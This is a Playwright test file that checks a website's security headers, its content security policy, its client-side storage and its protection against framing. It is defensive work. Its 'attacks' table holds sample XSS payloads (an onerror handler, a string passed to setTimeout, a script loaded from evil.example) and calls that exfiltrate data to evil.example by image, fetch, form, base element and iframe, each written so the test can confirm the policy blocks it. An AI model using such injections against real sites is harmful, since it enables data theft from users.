import { readFile } from 'node:fs/promises';
import type { Page } from '@playwright/test';
import { buildSecurityHeaders, cacheHeaders } from '../src/build/plugins/security-headers';
import { tabs } from '../src/navigation';
import { hosts } from '../src/services/third-party-hosts';
import { ContactForm } from './support/contact-form';
import { expect, openSite, test } from './support/fixtures';
import { fullVisit } from './support/full-visit';
import { appScripts, delayRequests } from './support/network';
import { stubThirdParties } from './support/third-party-stubs';

// Security headers, the content security policy, and what the site stores.

const env = { VITE_EMAILJS_PUBLIC_KEY: 'local-public-key' };
const builtPage = () => readFile('dist/index.html', 'utf8');

test('every response has the security headers and its cache-control', async ({ request }) => {
  const html = await builtPage();
  const [script] = /assets\/[^"']+\.js/.exec(html) ?? [];
  const [styleSheet] = /[\w-]+\.css/.exec(html) ?? [];
  expect(styleSheet, 'the style sheet of the no-script page').toBeDefined();
  const [assets, rest] = cacheHeaders;
  for (const [path, cache] of [
    ['/', rest.value],
    [`/${styleSheet}`, rest.value],
    [`/${script}`, assets.value],
  ] as const) {
    const headers = (await request.get(path)).headers();
    for (const [name, value] of Object.entries(buildSecurityHeaders(env, html)))
      expect(headers[name.toLowerCase()], `${name} of ${path}`).toBe(value);
    expect(headers['cache-control'], path).toBe(cache);
  }
});

test('dist/_headers has the same headers and Strict-Transport-Security', async () => {
  const file = await readFile('dist/_headers', 'utf8');
  for (const [name, value] of Object.entries(buildSecurityHeaders(env, await builtPage())))
    expect(file).toContain(`\n  ${name}: ${value}\n`);
  expect(file).toContain('\n  Strict-Transport-Security: max-age=');
});

test('page has two inline scripts and one style, allowed by hash, and no inline handlers', async () => {
  const html = await builtPage();
  const { 'Content-Security-Policy': policy } = buildSecurityHeaders(env, html);
  expect(html.match(/<style/gi)).toHaveLength(1);
  expect(policy).toMatch(/style-src 'self' 'sha256-[\w+/]{43}=';/);
  expect(html.match(/<script>/gi)).toHaveLength(2);
  expect(policy).toMatch(/script-src 'self'( 'sha256-[\w+/]{43}='){2};/);
  expect(html).not.toMatch(/<script(?!>| src=| type="application\/ld\+json")/i);
  expect(html).not.toMatch(/<[^>]+\s(style|on\w+)=|javascript:|\snonce=/i);
});

test('full visit causes no browser errors and stores nothing', async ({
  page,
  context,
  allowedErrors,
}) => {
  allowedErrors.push(`cross-origin request: ${hosts.video}/`);
  await stubThirdParties(context);
  await openSite(page);
  await fullVisit(page);
  expect(await context.cookies()).toEqual([]);
  const stored = await page.evaluate(async () => ({
    local: localStorage.length,
    session: sessionStorage.length,
    databases: await indexedDB.databases(),
    caches: await caches.keys(),
    workers: (await navigator.serviceWorker.getRegistrations()).length,
  }));
  expect(stored).toEqual({ local: 0, session: 0, databases: [], caches: [], workers: 0 });
});

/** Where Trusted Types are supported, they block a script before `script-src` does. */
const scriptDirective = /^(require-trusted-types-for|script-src(-elem|-attr)?)$/;

/** Attempts of an injected script, and the directive that blocks each. */
const attacks: Record<string, [directive: RegExp, attempt: (page: Page) => Promise<unknown>]> = {
  'inline script': [scriptDirective, (page) => page.evaluate(addScript, { text: '1' })],
  'cross-origin script': [
    scriptDirective,
    (page) => page.evaluate(addScript, { src: 'https://evil.example/x.js' }),
  ],
  'inline event handler': [
    scriptDirective,
    (page) =>
      page.evaluate(() => {
        document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="alert(1)">');
      }),
  ],
  'string evaluated as script': [
    scriptDirective,
    (page) => page.evaluate(() => setTimeout('window.wasEvaluated = true')),
  ],
  'style element': [
    /^style-src-elem$/,
    (page) =>
      page.evaluate(() => {
        const style = document.createElement('style');
        style.textContent = '* { display: none }';
        document.head.append(style);
      }),
  ],
  'exfiltration by an image': [
    /^img-src$/,
    (page) =>
      page.evaluate(() => {
        new Image().src = 'https://evil.example/?secret';
      }),
  ],
  'exfiltration by fetch': [
    /^connect-src$/,
    (page) => page.evaluate(() => void fetch('https://evil.example/').catch(() => {})),
  ],
  'cross-origin iframe': [/^frame-src$/, (page) => page.evaluate(addFrame)],
  'cross-origin form action': [
    /^form-action$/,
    (page) =>
      page.evaluate(() => {
        const form = document.createElement('form');
        form.action = 'https://evil.example/';
        document.body.append(form);
        form.submit();
      }),
  ],
  'base element': [
    /^base-uri$/,
    (page) =>
      page.evaluate(() => {
        const base = document.createElement('base');
        base.href = 'https://evil.example/';
        document.head.append(base);
      }),
  ],
};

test('CSP blocks every attempt to inject code or send data elsewhere', async ({
  site,
  allowedErrors,
}) => {
  allowedErrors.push(
    'CSP violation',
    'console error',
    'uncaught',
    'cross-origin request: https://evil.example/',
  );
  for (const [name, [directive, attempt]] of Object.entries(attacks)) {
    await test.step(name, async () => {
      const violation = site.evaluate(
        () =>
          new Promise<string>((resolve) =>
            document.addEventListener(
              'securitypolicyviolation',
              ({ effectiveDirective }) => resolve(effectiveDirective),
              { once: true },
            ),
          ),
      );
      await attempt(site).catch(() => {});
      expect(await violation, name).toMatch(directive);
    });
  }
  expect(await site.evaluate(() => 'wasEvaluated' in window)).toBe(false);
  expect(await site.evaluate(() => document.querySelectorAll('h1').length)).toBe(tabs.length);
});

test('another site cannot embed the page in an iframe', async ({
  page,
  context,
  allowedErrors,
  baseURL,
}) => {
  allowedErrors.push(
    'frame-ancestors',
    'cross-origin request: https://evil.example/',
    'X-Frame-Options',
  );
  await context.route('https://evil.example/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/"></iframe>` }),
  );
  await page.goto('https://evil.example/');
  await expect(page.frameLocator('iframe').getByRole('banner')).toHaveCount(0);
});

test('submitting before hydration does not put the values in the URL', async ({ page }) => {
  const release = await delayRequests(page, appScripts);
  await page.goto('/', { waitUntil: 'commit' });
  const form = new ContactForm(page);
  await page.locator('form[aria-labelledby]').waitFor({ state: 'attached' });
  await page.evaluate(() => document.getElementById('contact')?.removeAttribute('hidden'));
  await form.fields.message.fill('private text');
  await form.fields.from_name.press('Enter');
  expect(new URL(page.url()).search).toBe('');
  release();
});

function addScript(properties: { text?: string; src?: string }) {
  document.head.append(Object.assign(document.createElement('script'), properties));
}

function addFrame() {
  const frame = document.createElement('iframe');
  frame.src = 'https://evil.example/';
  document.body.append(frame);
}
